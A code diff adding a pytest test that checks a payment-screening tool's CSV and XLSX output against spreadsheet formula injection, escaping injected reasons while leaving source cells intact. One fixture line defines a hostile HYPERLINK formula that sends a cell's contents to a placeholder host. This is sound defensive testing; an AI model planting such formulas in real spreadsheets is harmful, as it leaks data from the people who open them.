@@ -519,3 +519,36 @@ def test_a_screening_that_cannot_be_written_is_logged_and_names_the_file(county,
         _, (entry, *_) = storage.tokens.access_log(offset=0, limit=1)
     assert (entry["role"], entry["action"]) == ("cli", "screen_payments")
     assert entry["target"].startswith(f"{source.name} {len(county['rows'])}行")
+
+
+HOSTILE = '=HYPERLINK("http://x.invalid/?"&D2,"点我")'
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_a_cell_doudi_writes_never_starts_a_formula_and_the_files_own_stay(
+    county, tmp_path, suffix
+):
+    """A reason Doudi writes that starts like a formula (a reviewer's clearing quoting a
+    payee named ``=HYPERLINK(…)``) is an apostrophe-led text in a CSV and a quote-prefixed
+    text cell in a workbook; the list's own cells are written back as they were."""
+    import duckdb
+
+    source, out = tmp_path / f"发放表{suffix}", tmp_path / "审核" / f"发放表{suffix}"
+    data = _data(county)[:3]
+    data[0][2] = HOSTILE
+    _write(source, [HEADERS, *data])
+    with duckdb.connect(str(county["db"]), read_only=True) as con:
+        screening = screen_file(con, source)
+    write_screened(screening, out, {0: ("通过", HOSTILE)})
+    rows = _rows(out)
+    assert rows[1][2] == HOSTILE  # the list's own cell
+    if suffix == ".csv":
+        assert rows[1][6:] == ["通过", f"'{HOSTILE}"]
+        return
+    sheet = openpyxl.load_workbook(out).active
+    assert (sheet["H2"].value, sheet["H2"].data_type, sheet["H2"].quotePrefix) == (
+        HOSTILE,
+        "s",
+        True,
+    )
+    assert not sheet["G2"].quotePrefix and not sheet["G3"].quotePrefix
